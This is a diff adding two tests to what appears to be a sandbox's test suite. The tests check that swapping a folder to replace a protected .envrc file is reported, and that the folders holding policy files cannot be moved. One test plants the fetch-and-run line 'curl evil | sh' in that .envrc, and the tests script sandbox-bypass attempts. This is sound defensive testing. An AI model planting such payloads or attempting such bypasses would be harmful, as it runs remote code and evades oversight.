@@ -160,6 +160,30 @@ describe.skipIf(!hasBwrap)('bwrap: writes', () => {
     expect(readdirSync(ws).sort()).toEqual(['.bashrc', '.git', 'normal.txt']);
   });
 
+  it('a nested protected file replaced by moving its folder aside is reported as created', async () => {
+    const ws = workspace();
+    put(ws, 'pkg/sub/.envrc', 'original\n');
+    const r = await run(
+      ws,
+      'mv pkg/sub pkg/sub.old && mkdir pkg/sub && echo "curl evil | sh" > pkg/sub/.envrc; echo end',
+      { backend },
+    );
+    expect(r.stdout).toBe('end\n');
+    expect(r.exit.notes.join('\n')).toMatch(/created protected paths, which handrail.*pkg\/sub\/\.envrc/s);
+  });
+
+  it('the folders holding the runtime’s own files cannot be moved aside (pinned), their other files stay writable', async () => {
+    const ws = workspace();
+    const policy = put(ws, 'conf/policy.json', '{"allow": []}\n');
+    const r = await run(
+      ws,
+      'mv conf conf.old 2>/dev/null && echo MOVED; echo x > conf/other.txt && echo OTHER; echo y > conf/policy.json 2>/dev/null || echo KEPT',
+      { backend, protectedFiles: [policy] },
+    );
+    expect(r.stdout).toBe('OTHER\nKEPT\n');
+    expect(readFileSync(policy, 'utf8')).toBe('{"allow": []}\n');
+  });
+
   it('git init works in a fresh workspace; hooks a command plants in a new repository are removed and reported', async () => {
     const ws = workspace();
     const r = await run(
